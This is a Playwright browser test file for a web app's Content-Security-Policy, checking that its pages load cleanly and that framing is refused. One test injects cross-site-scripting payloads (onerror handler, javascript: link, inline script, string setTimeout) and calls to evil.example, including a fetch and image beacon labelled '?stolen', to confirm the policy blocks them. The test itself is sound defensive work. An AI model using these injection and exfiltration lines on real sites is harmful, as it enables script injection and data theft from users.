"""The pages run under their Content-Security-Policy: nothing that they need is refused, and what is injected is."""

import time
from collections.abc import Iterator

import psycopg
import pytest
import redis
from playwright.sync_api import Browser, Page

from app import create_app
from geodata.servers import Stores
from services.access import Viewer
from settings import Settings
from tests.browser.chromium import empty_page, leave, signed_in
from tests.live_app import same_port, served
from tests.small_place import centre, grid_no
from tests.viewers import DISPATCHER, county

pytestmark = pytest.mark.browser
MOUNTED = "() => Boolean(window.wangge?.mounted)"
STATION = "37088301001320000001"


@pytest.fixture(scope="module")
def site(module_clone: Stores) -> Iterator[str]:
    with psycopg.connect(module_clone.database_url) as conn:
        conn.execute(
            "INSERT INTO video_station (id, name, site_kind, area_no, geom, stream_url, state, generated)"
            " VALUES (%s, 'hall', 'hall', %s, ST_SetSRID(ST_MakePoint(%s, %s), 4326), '/demo-camera/hall/live.m3u8',"
            " 'live', true)",
            (STATION, grid_no(1, 1, 1), *centre(1, 1, 1)),
        )
    with redis.Redis.from_url(module_clone.redis_url) as client:
        client.set(f"{module_clone.key_prefix}video:turn", "1", ex=3600)  # nobody looks whether it plays
    with served(create_app(Settings(), module_clone), same_port()) as url:
        yield url


def opened(browser: Browser, url: str, viewer: Viewer = DISPATCHER) -> tuple[Page, list[str]]:
    """The page under its policy, and what the policy refuses while it is open."""
    page = signed_in(browser, url, 1440, 900, viewer=viewer, bypass_csp=False)
    refused: list[str] = []
    page.on("console", lambda line: refused.append(line.text) if "Security Policy" in line.text else None)
    page.goto(url)
    return page, refused


def until(page: Page, true: str, seconds: float = 30) -> None:
    """Wait for a function of the page; playwright's own way of waiting evaluates text, which the policy refuses."""
    give_up = time.monotonic() + seconds
    while not page.evaluate(true):
        assert time.monotonic() < give_up, true
        page.wait_for_timeout(100)


@pytest.mark.parametrize(
    ("path", "role"),
    [("/wall/", "dispatcher"), ("/area/370883001001001", "dispatcher"), ("/dispatch/", "dispatcher"),
     ("/admin/", "administrator")],
)  # fmt: skip
def test_nothing_that_a_screen_needs_is_refused(browser: Browser, site: str, path: str, role: str) -> None:
    page, refused = opened(browser, site + path, county(role))
    until(page, MOUNTED)
    page.wait_for_timeout(1000)
    assert refused == []
    leave(page)


@pytest.mark.parametrize("path", ["/sign-in", "/wall/", "/api/docs"])
def test_nor_on_the_pages_of_a_stranger(browser: Browser, site: str, path: str) -> None:
    page = empty_page(browser, site, 1440, 900)
    refused: list[str] = []
    page.on("console", lambda line: refused.append(line.text) if "Security Policy" in line.text else None)
    page.on("pageerror", lambda error: refused.append(str(error)))
    page.goto(site + path)
    page.wait_for_timeout(800)
    assert refused == [] and page.title()
    leave(page)


def test_a_video_plays_and_what_is_injected_does_not_run(browser: Browser, site: str) -> None:
    page, refused = opened(browser, f"{site}/area/?lang=en&card=station:{STATION}")
    until(page, MOUNTED)
    until(page, "() => document.querySelector('.wg-player video')?.buffered.length > 0", 60)
    page.wait_for_timeout(1000)
    assert refused == []

    page.evaluate(
        """() => {
            const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
            add('<img src="/nothing.png" onerror="window.ran = 1">');
            add('<a id="go" href="javascript:window.ran = 2">x</a>');
            document.getElementById("go").click();
            const script = document.createElement("script");
            script.textContent = "window.ran = 3";
            document.body.append(script);
            const far = document.createElement("script");
            far.src = "https://evil.example/x.js";
            document.body.append(far);
            setTimeout("window.ran = 4", 0);
            const frame = document.createElement("iframe");
            frame.src = "https://evil.example/";
            document.body.append(frame);
            fetch("https://evil.example/?stolen").catch(() => {});
            new Image().src = "https://evil.example/?stolen";
        }"""
    )
    page.wait_for_timeout(700)
    assert page.evaluate("() => window.ran === undefined")
    told = "\n".join(refused)
    for directive in ("script-src", "connect-src", "img-src", "frame-src"):
        assert directive in told, (directive, told)
    assert "unsafe-eval" in told  # setTimeout of a text
    leave(page)


def test_no_site_may_frame_a_page(browser: Browser, site: str) -> None:
    page = browser.new_page()
    page.route(
        "http://other.example/", lambda route: route.fulfill(body=f"<iframe src='{site}/sign-in'></iframe>")
    )
    page.goto("http://other.example/")
    page.wait_for_timeout(1000)
    assert [frame.url for frame in page.frames][1:] == ["chrome-error://chromewebdata/"]
    page.close()
